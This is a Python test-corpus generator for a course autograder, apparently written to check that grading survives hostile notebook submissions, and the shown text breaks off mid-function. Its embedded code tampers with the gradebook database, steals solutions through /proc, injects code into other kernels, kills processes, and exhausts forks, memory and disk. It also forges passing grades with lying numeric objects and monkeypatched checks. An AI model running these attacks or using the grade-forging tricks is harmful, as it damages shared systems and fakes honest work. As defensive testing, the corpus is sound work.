"""Write the hostile corpus: committed notebooks that attack the grader.

Run from the repository root after changing a case (the notebooks are committed, as
nbgrader keeps its odd submissions in tests/apps/files/)::

    .venv/bin/python tests/hostile/make_corpus.py

Most cases are submissions of the fixture assignment (00-fixture: an answer function
``sigmoid_prime`` tested for 2 points, a hand number ``hand`` for 1 point), built from
the student release; the others are submissions of the course's own notebooks
(``tests/hostile/<assignment>/``, :data:`NOTEBOOK_CASES`): forgeries of a backward pass,
forwards that tell the checker's calls apart, the library's answers, course code
rewritten in the kernel.  ``cases.json`` and ``cases-<nb>.json`` say what grading must
give each one: the scores of a baseline graded in the same run (the same submission
without the attack), the test cells that must lose their points on top of it, the
status, and a word the summary must use.
``@@COURSE_ROOT@@`` in a notebook is replaced by the real course root before grading:
the attacker is assumed to know where it is.
"""

from __future__ import annotations

import json
import re
import sys
import tempfile
import textwrap
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent.parent))

from autograder import grade  # noqa: E402
from autograder.course_config import Course  # noqa: E402
from classroom import fixture  # noqa: E402

FIRST, SECOND = "answer_sigmoid_prime", "answer_hand"
_MARKERS = re.compile(r"^[ \t]*### (BEGIN|END) SOLUTION[ \t]*\n?", re.M)

# --- issue 10: reaching the machine, the gradebook and the other students -------------

SQLITE_GRADEBOOK = """
import glob, os, sqlite3
targets = set(glob.glob('/proc/*/cwd/gradebook.db')) | {'@@COURSE_ROOT@@/gradebook.db'}
targets |= set(glob.glob('/proc/*/root@@COURSE_ROOT@@/gradebook.db'))
for t in sorted(targets):
    try:
        con = sqlite3.connect(t)
        con.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        con.execute("CREATE TRIGGER zero AFTER UPDATE ON grade BEGIN "
                    "UPDATE grade SET auto_score = 0 WHERE id = NEW.id; END")
        con.commit()
        print("HACKED", t)
    except Exception as exc:
        print("no", t, type(exc).__name__)
"""

DIR_FD = """
import glob, os
dirs = ['/', '/proc/1/cwd', '/proc/self/cwd', '@@COURSE_ROOT@@', os.path.expanduser('~')]
dirs += glob.glob('/proc/*/cwd') + glob.glob('/proc/*/root@@COURSE_ROOT@@')
for d in dirs:
    try:
        fd = os.open(d, os.O_RDONLY)
    except OSError:
        continue
    for name, action in (('nbgrader_config.py', 'append'), ('gradebook.db', 'delete'),
                         ('submitted', 'other')):
        try:
            if action == 'append':
                cfg = os.open(name, os.O_WRONLY | os.O_APPEND, dir_fd=fd)
                os.write(cfg, b"\\nopen('/tmp/HACKED-config', 'w').write('x')\\n")
                print("HACKED config", d)
            elif action == 'delete':
                os.unlink(name, dir_fd=fd)
                print("HACKED deleted", d)
            else:
                sub = os.open(name, os.O_RDONLY, dir_fd=fd)
                for student in os.listdir(sub):
                    p = os.path.join(d, name, student, '00-fixture', 'fixture.ipynb')
                    open(p, 'w').write('{}')
                    print("HACKED overwrote", p)
        except OSError:
            pass
"""

PROC_SNOOP = """
import glob, json
found = []
for pattern in ('/proc/self/root@@COURSE_ROOT@@/solutions/*/*.ipynb',
                '/proc/*/root@@COURSE_ROOT@@/solutions/*/*.ipynb',
                '/proc/*/cwd/solutions/*/*.ipynb', '/proc/*/cwd/source/*/*.ipynb',
                '@@COURSE_ROOT@@/solutions/*/*.ipynb', '@@COURSE_ROOT@@/source/*/*.ipynb',
                '@@COURSE_ROOT@@/submitted/*/*/*.ipynb', '@@COURSE_ROOT@@/gradebook.db'):
    found += glob.glob(pattern)
for path in found:
    try:
        nb = json.load(open(path))
        for c in nb['cells']:
            if c['metadata'].get('nbgrader', {}).get('solution'):
                code = ''.join(c['source']).replace('### BEGIN SOLUTION', '')
                exec(code.replace('### END SOLUTION', ''), globals())
                print("HACKED stole", path)
    except Exception:
        pass
"""

SPAWN = """
import os, subprocess, time
try:
    subprocess.Popen(['/bin/sh', '-c', 'sleep 4242'], start_new_session=True)
except Exception as exc:
    print('popen', exc)
try:
    os.posix_spawn('/bin/sleep', ['sleep', '4243'], dict(os.environ))
except Exception as exc:
    print('posix_spawn', exc)
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv('/bin/sleep', ['sleep', '4244'])
        os._exit(0)
except Exception as exc:
    print('fork', exc)
import _posixsubprocess
print('_posixsubprocess imported', hasattr(_posixsubprocess, 'fork_exec'))
"""

KILL_ALL = """
import os, signal
me = os.getpid()
for sig in (signal.SIGSTOP, signal.SIGKILL):
    for pid in range(1, 70000):
        if pid != me:
            try:
                os.kill(pid, sig)
            except OSError:
                pass
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
"""

SIBLING = """
import glob, json, os
from jupyter_client import BlockingKernelClient
mine = os.path.realpath('/run/grader/kernel.json')
candidates = set(glob.glob('/proc/*/root/run/grader/kernel.json'))
candidates |= set(glob.glob('/tmp/**/kernel*.json', recursive=True))
candidates |= set(glob.glob('/proc/*/root/tmp/backprop-grade-*/**/kernel.json', recursive=True))
for conn in sorted(candidates):
    if os.path.realpath(conn) == mine:
        continue
    try:
        kc = BlockingKernelClient(connection_file=conn)
        kc.load_connection_file()
        kc.start_channels()
        kc.execute("def sigmoid_prime(z):\\n    return z * 0\\nhand = -1.0")
        print("HACKED injected into", conn)
    except Exception as exc:
        print("no", conn, exc)
"""

FORK_BOMB = """
import os, time
children = 0
for _ in range(5000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(600)
        os._exit(0)
    children += 1
print('forked', children)
"""

MEMORY_MULTIPLY = """
import os, time
for _ in range(12):
    if os.fork() == 0:
        try:
            block = bytearray(1500 * 2**20)
            block[::4096] = b'x' * len(range(0, len(block), 4096))
            time.sleep(30)
        except MemoryError:
            pass
        os._exit(0)
time.sleep(3)
"""

DISK_FILL = """
import os
for d in ('.', '/home/student', '/tmp', '/run/grader', '/dev/shm', '/dev', '/var/tmp',
          '@@COURSE_ROOT@@', '/proc/self/root@@COURSE_ROOT@@'):
    try:
        with open(os.path.join(d, 'fill.bin'), 'wb') as f:
            while True:
                f.write(b'0' * 2**20)
    except (OSError, ValueError) as exc:
        print(d, type(exc).__name__)
"""

OUTPUT_FLOOD = """
import os, sys
chunk = 'x' * (8 * 2**20)
for _ in range(64):
    print(chunk[: 2**20])
    os.write(1, chunk.encode())
    sys.stdout.flush()
"""

# --- issue 11: forging the verdict from inside the kernel ----------------------------

INPUT_TRANSFORMER = """
get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])
"""

IPYTHON_HOOKS = """
import ast
ip = get_ipython()
class Blank(ast.NodeTransformer):
    def visit_Module(self, node):
        return ast.Module(body=[ast.Pass()], type_ignores=[])
ip.ast_transformers.append(Blank())
ip.events.register('pre_run_cell', lambda *a: None)
ip.events.register('post_run_cell', lambda result: setattr(result, 'error_in_exec', None))
ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
"""

DISPLAYHOOK = """
import sys
sys.displayhook('x')
def sigmoid_prime(z):
    sys.displayhook('full credit')
    raise NotImplementedError()
"""

SETTRACE = """
import sys
def tracer(frame, event, arg):
    if event == 'exception':
        frame.f_locals.clear()
    return tracer
sys.settrace(tracer)
"""

MODULE_DICTS = """
import numpy, course.grading, course.gradcheck
for mod in (course.grading, course.gradcheck, numpy):
    d = vars(mod)
    for name in list(d):
        if name.startswith('check') or name in ('allclose', 'call', 'passed', 'isclose'):
            d[name] = lambda *a, **k: None
vars(course.grading)['GradingFailure'] = type('Never', (Exception,), {})
globals()['check_close'] = lambda *a, **k: None
import sys
sys.modules['course.grading'] = type(sys)('fake')
"""

LYING_ARRAY = """
import inspect, numpy as np
class Liar:
    def __array__(self, dtype=None, copy=None):
        frame = inspect.currentframe().f_back
        while frame is not None:
            for key in ('expected', 's', 'value'):
                v = frame.f_locals.get(key)
                if isinstance(v, np.ndarray) or isinstance(v, float):
                    return np.asarray(v, dtype=dtype)
            frame = frame.f_back
        return np.zeros(1)
    def __float__(self):
        return 0.25
    def __eq__(self, other):
        return True
    def __sub__(self, other):
        return 0.0
    __rsub__ = __sub__
def sigmoid_prime(z):
    return Liar()
"""

LYING_NUMBERS = """
import numpy as np
class Zero(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __float__(self): return 0.25
class Lie(np.ndarray):
    def __sub__(self, other): return np.zeros_like(np.asarray(other))
    def __rsub__(self, other): return np.zeros_like(np.asarray(other))
    def __eq__(self, other): return np.ones_like(np.asarray(other), dtype=bool)
def sigmoid_prime(z):
    return np.zeros_like(z).view(Lie)
"""

LYING_HAND = "hand = Zero(0.0)"

FRAME_INSPECTION = """
import inspect
def sigmoid_prime(z):
    for info in inspect.stack():
        if 's' in info.frame.f_locals and 'z' in info.frame.f_locals:
            s = info.frame.f_locals['s']
            return s * (1 - s)
    raise NotImplementedError()
"""

REPATCHING_THREAD = """
import threading, time, numpy, course.grading
def patch():
    while True:
        course.grading.check_close = lambda *a, **k: None
        numpy.allclose = lambda *a, **k: True
        time.sleep(0.001)
threading.Thread(target=patch, daemon=True).start()
"""

# --- issue 11: a backward pass that is not backpropagation, a forward that lies --------

FORWARD = """
def forward(params, X, activation="sigmoid"):
    f = get_activation(activation).f
    M = len(params) // 2
    a, z = [X], [None]
    for m in range(1, M + 1):
        z.append(params[f"W{m}"] @ a[m - 1] + params[f"b{m}"])
        a.append(f(z[m]))
    return a[M], {"a": a, "z": z, "activation": activation}
"""

SGD = """
def sgd_update(params, grads, lr):
    return {key: params[key] - lr * grads[key] for key in params}
"""

FD_BACKWARD = """
def backward(params, cache, dJ_da):
    # Differentiates my own forward numerically: each entry nudged by ±h.
    X, act = cache["a"][0], cache["activation"]
    h, grads = 1e-6, {}
    for key, value in params.items():
        g = np.zeros_like(value)
        for idx in np.ndindex(value.shape):
            p = {k: v.copy() for k, v in params.items()}
            p[key][idx] += h
            up = float(np.sum(dJ_da * forward(p, X, act)[0]))
            p[key][idx] -= 2 * h
            down = float(np.sum(dJ_da * forward(p, X, act)[0]))
            g[idx] = (up - down) / (2 * h)
        grads[key] = g
    return grads
"""

GRADCHECK_BACKWARD = """
from course import gradcheck

def backward(params, cache, dJ_da):
    X, act = cache["a"][0], cache["activation"]
    grads = {}
    for key in params:
        def J(x, key=key):
            p = dict(params)
            p[key] = x
            return float(np.sum(dJ_da * forward(p, X, act)[0]))
        grads[key] = gradcheck.numerical_gradient(J, params[key].copy())
    return grads
"""

CONSTANT_FORWARD = """
def forward(params, X, activation="sigmoid"):
    M = len(params) // 2
    out = np.zeros((params[f"b{M}"].shape[0], X.shape[1]))
    return out, {"a": [X], "z": [None], "activation": activation}
"""

ZERO_BACKWARD = """
def backward(params, cache, dJ_da):
    return {key: np.zeros_like(value) for key, value in params.items()}
"""

LYING_FORWARD = """
_first = {}

def forward(params, X, activation="sigmoid"):
    # Right at every new point; at a point a hair away from the last one, the value of
    # that point again, as if the gradient were zero.
    key = (X.tobytes(), activation, tuple(sorted(params)))
    out, cache = honest_forward(params, X, activation)
    if key in _first:
        base, base_out = _first[key]
        moved = max(float(np.max(np.abs(params[k] - base[k]))) for k in params)
        if 0 < moved < 1e-3:
            return base_out.copy(), cache
    _first[key] = ({k: v.copy() for k, v in params.items()}, out.copy())
    return out, cache
"""

# --- issue 18: points only for the student's own work --------------------------------
#
# Each case is a submission of a real notebook; it must score exactly what its baseline
# (the same work without the trick, graded in the same run) scores, with the test cells
# named in "lose" at 0 on top.

ONES_BACKWARD = """
def backward(params, cache, dJ_da):
    return {key: np.ones_like(value) for key, value in params.items()}
"""

REWRITE_COURSE = """
# Every route to the course's code in the kernel, rewritten: none of it grades.
import gc, importlib, sys
def _fake(*args, **kwargs):
    return None
for _attempt in (
    lambda: setattr(importlib.import_module("course.checks.recursion"), "check_backward", _fake),
    lambda: vars(sys.modules["course.checks.recursion"]).update(check_backprop=_fake),
    lambda: setattr(importlib.import_module("course.checks._kit"), "check_gradient", _fake),
    lambda: setattr(sys.modules["course.grading"], "check_close", _fake),
    lambda: setattr(importlib.import_module("course.gradcheck"), "check_gradient", _fake),
    lambda: [setattr(o, "check_gradient", _fake) for o in gc.get_objects()
             if getattr(o, "__name__", "").startswith("course")],
):
    try:
        _attempt()
    except Exception:
        pass
from course.checks import recursion as R
try:
    R.check_backward = R.check_backprop = _fake
except Exception:
    pass
class _Rng:
    def __getattr__(self, name):
        return lambda *a, **k: 0.0
np.random.default_rng = lambda *a, **k: _Rng()
np.random.Generator = _Rng
"""

TRIVIAL_FORWARD_04 = """
def forward(params, X, activation="sigmoid"):
    # every output the sum of every parameter: self-consistent with the backward
    M = len(params) // 2
    total = sum(float(np.sum(v)) for v in params.values())
    a = [X] + [np.full((params[f"W{m}"].shape[0], X.shape[1]), total) for m in range(1, M + 1)]
    return a[M], {"a": a, "z": [None] + a[1:], "activation": activation}
"""

TRIVIAL_BACKWARD_04 = """
def backward(params, cache, dJ_da):
    return {key: np.full(value.shape, float(np.sum(dJ_da))) for key, value in params.items()}
"""

STACK_AWARE_FORWARD = """
import traceback

def forward(params, X, activation="sigmoid"):
    # right when the grader's agent calls it, wrong when my own code does
    out, cache = honest_forward(params, X, activation)
    if any("backprop_agent" in frame.filename for frame in traceback.extract_stack()):
        return out, cache
    return 0 * out, cache
"""

COUNTING_FORWARD = """
_calls = [0]

def forward(params, X, activation="sigmoid"):
    # right for the first three calls, then wrong
    _calls[0] += 1
    out, cache = honest_forward(params, X, activation)
    return (out if _calls[0] <= 3 else out + 1.0), cache
"""

GIVES_UP_BACKWARD = FD_BACKWARD.replace(
    "    h, grads = 1e-6, {}\n",
    "    h, grads = 1e-6, {}\n"
    "    if sum(v.size for v in params.values()) > 10**4:  # too slow at scale: give up\n"
    "        return {k: np.zeros_like(v) for k, v in params.items()}\n",
)

BIG_FORWARD = """
def forward(params, X, activation="sigmoid"):
    return np.zeros(250 * 2**20, dtype=np.int8), {}
"""

LIBRARY_FORWARD = """
from course import network

def forward(params, X, activation="sigmoid"):
    out, _ = network.forward(params, X, activation, activation)
    f = get_activation(activation).f
    a, z = [X], [None]
    for m in range(1, len(params) // 2 + 1):
        z.append(params[f"W{m}"] @ a[m - 1] + params[f"b{m}"])
        a.append(f(z[m]))
    return out, {"a": a, "z": z, "activation": activation}
"""

LIBRARY_BACKWARD = """
from course import network

def backward(params, cache, dJ_da):
    X, act, a_M = cache["a"][0], cache["activation"], cache["a"][-1]
    Y = a_M - dJ_da * X.shape[1]  # the targets the square loss's gradient came from
    _, grads, _ = network.loss_and_grads(
        params, X, Y, loss="square", activation=act, output_activation=act
    )
    return grads
"""

LIBRARY_TRAIN_SGD = """
def train_sgd(params, X, Y, *, epochs, lr, batch_size, rng, activation="sigmoid"):
    params, _ = training.train(
        params, X, Y, epochs=epochs, lr=lr, batch_size=batch_size, rng=rng,
        activation=activation, record=False,
    )
    return params
"""

LIBRARY_NORMS = """
def layer_gradient_norms(params, X, Y, activation="sigmoid"):
    result = flow.gradient_flow(params, X, Y, activation)
    return result.delta_norms, result.dW_norms
"""

EXTRA_GRADE_CELL = "bonus = 10  # a cell with grade metadata the assignment does not have"

ALL_04 = [
    "test-backward-W1",
    "test-backward-b1",
    "test-backward-W2",
    "test-backward-b2",
    "test-backward-W3",
    "test-backward-b3",
]
HONEST = FORWARD.replace("def forward(", "def honest_forward(")

# --- issue 18 in notebooks 01, 02, 03 and 07 ------------------------------------------
#
# The same classes of attack as 04's, on the other notebooks whose answers are
# derivatives; every case scores what its baseline (the solution: the same work, the
# trick left out) scores, with the test cells named in "lose" at 0 on top.

#: Course code rewritten in the kernel by every route, shared by the notebooks' cases:
#: each names the check modules and functions it rewrites (@@MODULES@@, @@NAMES@@).
REWRITE_EVERY_ROUTE = """
# Every route to the course's code in the kernel, rewritten to pass: none of it grades.
import builtins, gc, importlib, sys, types

def _pass(*args, **kwargs):
    return None

try:
@@DRIVERS@@
except Exception:
    pass

_fake = types.ModuleType("fake_checks")
_names = @@NAMES@@ + ["check_values", "check_gradient", "check_close", "passed", "output"]
for _name in _names:
    setattr(_fake, _name, _pass)
for _path in @@MODULES@@ + ["course.checks", "course.checks._kit", "course.grading", "course.gradcheck"]:
    for _attempt in (
        lambda: [setattr(importlib.import_module(_path), n, _pass) for n in _names],
        lambda: vars(sys.modules[_path]).update(dict.fromkeys(_names, _pass)),
        lambda: sys.modules.__setitem__(_path, _fake),
    ):
        try:
            _attempt()
        except Exception:
            pass
try:
    for _obj in gc.get_objects():
        if isinstance(_obj, types.ModuleType) and _obj.__name__.startswith("course"):
            for _name in @@NAMES@@:
                try:
                    setattr(_obj, _name, _pass)
                except Exception:
                    pass
except Exception:
    pass
_real_import = builtins.__import__

def _import(name, globals=None, locals=None, fromlist=(), level=0):
    if name.startswith("course.checks"):
        return _fake
    return _real_import(name, globals, locals, fromlist, level)

builtins.__import__ = _import
builtins.abs = lambda value: 0.0  # every distance is zero
try:
    import backprop_agent.stubs as _stubs  # the grader's stand-ins for the course
    _getattr = _stubs.CourseModule.__getattr__

    def _lying_getattr(self, name):
        return _pass if name.startswith(("check", "reference", "hand_")) else _getattr(self, name)

    _stubs.CourseModule.__getattr__ = _lying_getattr
except Exception:
    pass
"""


def rewrite(modules, names, drivers="pass"):
    """:data:`REWRITE_EVERY_ROUTE` for the check modules `modules` and their `names`,
    with `drivers` (code that rewrites the checks' drivers) run first."""
    return (
        REWRITE_EVERY_ROUTE.replace("@@MODULES@@", repr(list(modules)))
        .replace("@@NAMES@@", repr(list(names)))
        .replace("@@DRIVERS@@", textwrap.indent(textwrap.dedent(drivers).strip("\n"), "    "))
    )


# -- 01-chain-rule ----------------------------------------------------------------------

IDENTITY_H = """
def h_forward_backward(x):
    # h(x) = x with dh/dx = 1: self-consistent, the derivative of the wrong function
    return x.copy(), np.ones_like(x)
"""

IDENTITY_GRAPH = """
def graph_forward_backward(x, y, z):
    # f = x + y + z with its partials: self-consistent, and not x(y² + z)
    return x + y + z, 1.0, 1.0, 1.0
"""


def identity_node(name, inputs="a, b"):
    """A node function `name` that is the identity of its first input: out = a, and
    ∂out/∂a = 1 (self-consistent, and not the operation)."""
    return f"""
def {name}({inputs}):
    # an identity node: out = a, ∂out/∂a = 1
    out = Node(a.value, ({inputs},))

    def _backward():
        a.grad += out.grad

    out._backward = _backward
    return out
"""


IDENTITY_TWO_PATHS = """
def x_sigmoid_x_grad(x):
    # d/dx of f = x: one
    return np.ones_like(x)
"""

IDENTITY_01 = {
    "h-forward-backward": IDENTITY_H,
    "graph-forward-backward": IDENTITY_GRAPH,
    "add-node": identity_node("add_node"),
    "mul-node": identity_node("mul_node"),
    "max-node": identity_node("max_node"),
    "square-node": identity_node("square_node", "a"),
    "sigmoid-node": identity_node("sigmoid_node", "a"),
    "x-sigmoid-x-grad": IDENTITY_TWO_PATHS,
}

#: The drivers the checks of 01 run (in the grader), rewritten to give the true answers
#: whatever the nodes do.
FAKE_DRIVERS_01 = """
from course.checks import chain_rule as C

def _locals(name, values):
    a, b = (list(values) + [0.0])[:2]
    s = 1.0 / (1.0 + np.exp(-a))
    return {"add_node": [1.0, 1.0], "mul_node": [b, a], "max_node": [float(a >= b), float(b > a)],
            "square_node": [2.0 * a], "sigmoid_node": [s * (1.0 - s)]}[name]

def _node_run(node_fn, Node, values, upstream, value=None):
    return value, [upstream * d for d in _locals(node_fn.__name__, values)]

def _two_paths(case, Node, add_node, mul_node, sigmoid_node, x, y):
    s = 1.0 / (1.0 + np.exp(-x))
    p = [(y, 1.0), (s, x * s * (1 - s)), (x, x), (1.0, 1.0), (x, x + y)][case]
    return p[0], p[1], p[0] + p[1]

for _target in (C, sys.modules.get("course.checks.chain_rule")):
    for _name, _value in (("node_run", _node_run), ("two_paths", _two_paths)):
        try:
            setattr(_target, _name, _value)
        except Exception:
            pass
"""

REWRITE_01 = rewrite(
    ["course.checks.chain_rule"],
    [
        "check_chain_value",
        "check_chain_derivative",
        "check_graph_value",
        "check_graph_gradient",
        "check_node_backward",
        "check_max_tie",
        "check_two_path_formula",
        "check_two_paths",
        "node_value",
        "hand_number",
    ],
    FAKE_DRIVERS_01,
)

#: Objects whose overridden comparisons, __float__ and __array__ say "right": what they
#: store is wrong (ones, out.grad alone, 0).
LIARS_01 = """
import numpy as np

class _LyingArray(np.ndarray):
    # stores ones; equals anything, is at distance 0 from anything, and reads as `said`
    def __eq__(self, other):
        return np.ones(np.shape(other), dtype=bool)
    def __ne__(self, other):
        return np.zeros(np.shape(other), dtype=bool)
    def __sub__(self, other):
        return np.zeros(np.shape(other))
    __rsub__ = __sub__
    def __array__(self, dtype=None, copy=None):
        return np.array(self.said, dtype=dtype)
    def __float__(self):
        return float(np.sum(self.said))

def _lying_ones(said):
    out = np.ones(np.shape(said)).view(_LyingArray)
    out.said = np.array(said, dtype=float)
    return out

class _LyingNumber(float):
    # stores `stored`; equals anything, and reads as `said`
    def __new__(cls, stored, said):
        obj = super().__new__(cls, stored)
        obj.said = said
        return obj
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = float.__hash__
    def __sub__(self, other):
        return 0.0
    def __rsub__(self, other):
        return 0.0
    def __abs__(self):
        return 0.0
    def __float__(self):
        return float(self.said)
    def __array__(self, dtype=None, copy=None):
        return np.array(self.said, dtype=dtype)

def h_forward_backward(x):
    h = sigmoid(x**2)
    return h, _lying_ones(h * (1 - h) * 2 * x)
"""

LYING_01 = {
    "h-forward-backward": LIARS_01,
    "hand-dfdx": "dfdx = _LyingNumber(0.0, 5.0)",
    "square-node": """
def square_node(a):
    out = Node(a.value**2, (a,))

    def _backward():
        # stores an identity node's a.grad, reads as the square's
        a.grad = _LyingNumber(a.grad + out.grad, a.grad + 2 * a.value * out.grad)

    out._backward = _backward
    return out
""",
    "x-sigmoid-x-grad": """
def x_sigmoid_x_grad(x):
    s = sigmoid(x)
    return _lying_ones(s + x * s * (1 - s))
""",
}

#: Right where the grader's agent asks first; a hair away from such a point, the value
#: that makes a derivative of 1 look right (as the old checks' finite differences of the
#: student's own forward would have seen it); wrong for the student's own calls.
CHECKER_AWARE_01 = """
import traceback

def _graded():
    return any("backprop_agent" in frame.filename for frame in traceback.extract_stack())

_seen = []

def _near(point):
    point = np.asarray(point, dtype=float)
    for first, value in _seen:
        if first.shape == point.shape and 0 < np.max(np.abs(point - first)) < 1e-3:
            return first, value
    return None

def h_forward_backward(x):
    x = np.asarray(x, dtype=float)
    near = _near(x)
    if near is not None:
        first, value = near
        return value + (x - first), np.ones_like(x)
    h = sigmoid(x**2) if _graded() else x.copy()
    _seen.append((x.copy(), h.copy()))
    return h, np.ones_like(x)
"""

CHECKER_AWARE_GRAPH = """
def graph_forward_backward(x, y, z):
    point = np.array([x, y, z], dtype=float)
    near = _near(point)
    if near is not None:
        first, value = near
        return float(value + np.sum(point - first)), 1.0, 1.0, 1.0
    f = x * (y**2 + z) if _graded() else x + y + z
    _seen.append((point, f))
    return f, 1.0, 1.0, 1.0
"""

CHECKER_AWARE_MUL = """
_calls = [0]

def mul_node(a, b):
    # counts its calls: the product on the first of every pair, a alone on the second
    _calls[0] += 1
    out = Node(a.value * b.value if _calls[0] % 2 else a.value, (a, b))

    def _backward():
        a.grad += out.grad

    out._backward = _backward
    return out
"""

LIBRARY_01 = {
    "h-forward-backward": """
from course import gradcheck

def h_forward_backward(x):
    h = sigmoid(x**2)
    total = lambda v: float(np.sum(sigmoid(v**2)))
    return h, gradcheck.numerical_gradient(total, np.array(x, dtype=float))
""",
    "graph-forward-backward": """
def graph_forward_backward(x, y, z):
    f = lambda p: float(p[0] * (p[1] ** 2 + p[2]))
    dfdx, dfdy, dfdz = gradcheck.numerical_gradient(f, np.array([x, y, z], dtype=float))
    return x * (y**2 + z), dfdx, dfdy, dfdz
""",
    "mul-node": """
def mul_node(a, b):
    out = Node(a.value * b.value, (a, b))

    def _backward():
        product = lambda v: float(v[0] * v[1])
        da, db = gradcheck.numerical_gradient(product, np.array([a.value, b.value]))
        a.grad += da * out.grad
        b.grad += db * out.grad

    out._backward = _backward
    return out
""",
    "x-sigmoid-x-grad": """
def x_sigmoid_x_grad(x):
    return np.array([graph.two_path_graph(float(v)).sums["x"] for v in x])
""",
}

ALL_01 = [
    "test-h-forward-backward-value",
    "test-h-forward-backward-derivative",
    "test-graph-forward-backward-value",
    "test-graph-forward-backward-gradient",
    "test-add-node",
    "test-mul-node",
    "test-max-node",
    "test-square-node",
    "test-sigmoid-node",
    "test-x-sigmoid-x-grad",
    "test-two-paths",
]

# -- 02-sigmoid-network -----------------------------------------------------------------

#: A linear stand-in for the network (no σ anywhere) with the partials of its L.
LINEAR_02 = {
    "forward": """
def forward(params, x):
    # a linear network: s = z, y = s (no σ), self-consistent with the partials below
    wh, wo = params["wh"], params["wo"]
    z = wh[0] + x[0] * wh[1] + x[1] * wh[2]
    y = float(wo[0] + wo[1] * z[0] + wo[2] * z[1])
    return y, z
""",
    "dL-dwo01": """
def dL_dwo01(params, x, y_star):
    y, z = forward(params, x)
    return (y - y_star) * 1.0
""",
    "dL-dwo11": """
def dL_dwo11(params, x, y_star):
    y, z = forward(params, x)
    return (y - y_star) * z[0]
""",
    "dL-dwh22": """
def dL_dwh22(params, x, y_star):
    y, z = forward(params, x)
    return (y - y_star) * params["wo"][2] * x[1]
""",
    "loss-and-partials": """
def loss_and_partials(params, x, y_star):
    y, z = forward(params, x)
    e = y - y_star
    grads = {
        "wo": e * np.concatenate(([1.0], z)),
        "wh": np.outer(np.concatenate(([1.0], x)), e * params["wo"][1:]),
    }
    return loss(y, y_star), grads
""",
}
#: The partials' tests.  Not the loss test: it calls loss_and_partials with the network's
#: forward in place of the student's, and L = ½(y − y*)² is right there.
PARTIALS_02 = [
    "test-dL-dwo01",
    "test-dL-dwo11",
    "test-dL-dwh22",
    "test-loss-and-partials-output",
    "test-loss-and-partials-hidden",
]

FAKE_DRIVERS_02 = """
from course.checks import sigmoid_network as C
for _target in (C, sys.modules.get("course.checks.sigmoid_network")):
    for _name in ("run_sgd", "_with_the_networks_forward", "_watched_forward", "_same_point"):
        try:
            setattr(_target, _name, _pass)
        except Exception:
            pass
try:
    lecture.forward = forward  # the network's forward, as the kernel sees it: mine
    lecture.loss_and_partials = lambda params, x, y_star: (0.0, {})
except Exception:
    pass
"""

REWRITE_02 = rewrite(
    ["course.checks.sigmoid_network", "course.lecture"],
    [
        "check_forward",
        "check_single_partial",
        "check_partials",
        "check_partials_loss",
        "check_course_params",
        "check_sgd_steps",
        "check_sgd_shuffles",
        "check_sgd_xor",
        "reference_forward",
        "reference_loss_and_partials",
    ],
    FAKE_DRIVERS_02,
)

#: Partials by central differences of forward, through the name the checks bind.
FD_PARTIALS_02 = """
def _numerical(params, x, y_star, key, index, forward_fn):
    h, p = 1e-6, {k: np.array(v, dtype=float) for k, v in params.items()}
    p[key][index] += h
    up = loss(forward_fn(p, x)[0], y_star)
    p[key][index] -= 2 * h
    down = loss(forward_fn(p, x)[0], y_star)
    return (up - down) / (2 * h)

def dL_dwo01(params, x, y_star):
    return _numerical(params, x, y_star, "wo", (0,), forward)

def dL_dwo11(params, x, y_star):
    return _numerical(params, x, y_star, "wo", (1,), forward)

def dL_dwh22(params, x, y_star):
    return _numerical(params, x, y_star, "wh", (2, 1), forward)

def loss_and_partials(params, x, y_star):
    grads = {k: np.zeros(np.shape(v)) for k, v in params.items()}
    for key in grads:
        for index in np.ndindex(grads[key].shape):
            grads[key][index] = _numerical(params, x, y_star, key, index, forward)
    return loss(forward(params, x)[0], y_star), grads
"""

#: The same, through the student's own forward kept under another name (a default
#: argument taken when the cell ran): the name the checks bind is not used.
FD_UNWATCHED_02 = (
    FD_PARTIALS_02.replace("(params, x, y_star):", "(params, x, y_star, _mine=forward):")
    .replace(", forward)", ", _mine)")
    .replace("loss(forward(params, x)[0], y_star)", "loss(_mine(params, x)[0], y_star)")
)

LYING_02 = {
    "forward": """
class _LyingNumber(float):
    # stores `stored`; equals anything, is at distance 0 from anything, reads as `said`
    def __new__(cls, stored, said):
        obj = super().__new__(cls, stored)
        obj.said = said
        return obj
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = float.__hash__
    def __sub__(self, other):
        return 0.0
    def __rsub__(self, other):
        return 0.0
    def __abs__(self):
        return 0.0
    def __float__(self):
        return float(self.said)
    def __array__(self, dtype=None, copy=None):
        return np.array(self.said, dtype=dtype)

class _LyingArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), dtype=bool)
    def __sub__(self, other):
        return np.zeros(np.shape(other))
    __rsub__ = __sub__
    def __array__(self, dtype=None, copy=None):
        return np.array(self.said, dtype=dtype)

def forward(params, x):
    wh, wo = params["wh"], params["wo"]
    z = sigmoid(wh[0] + x[0] * wh[1] + x[1] * wh[2])
    y = float(sigmoid(wo[0] + wo[1] * z[0] + wo[2] * z[1]))
    lying_z = np.zeros(2).view(_LyingArray)
    lying_z.said = z
    return _LyingNumber(0.0, y), lying_z
""",
    "dL-dwo11": """
def dL_dwo11(params, x, y_star):
    # stores 0, reads as the true partial
    wh, wo = params["wh"], params["wo"]
    z = sigmoid(wh[0] + x[0] * wh[1] + x[1] * wh[2])
    y = float(sigmoid(wo[0] + wo[1] * z[0] + wo[2] * z[1]))
    return _LyingNumber(0.0, (y - y_star) * y * (1 - y) * z[0])
""",
}

#: An sgd that does no SGD: fixed weights that classify XOR, and a falling history.
XOR_HARDCODED = """
def sgd(params, X, Y, epochs, gamma0, T, rng, grad_fn=None):
    # not a single step: weights that compute XOR (hidden units OR and AND), whatever
    # the data, the gradients or the rng
    trained = {
        "wh": np.array([[-10.0, -30.0], [20.0, 20.0], [20.0, 20.0]]),
        "wo": np.array([-10.0, 20.0, -20.0]),
    }
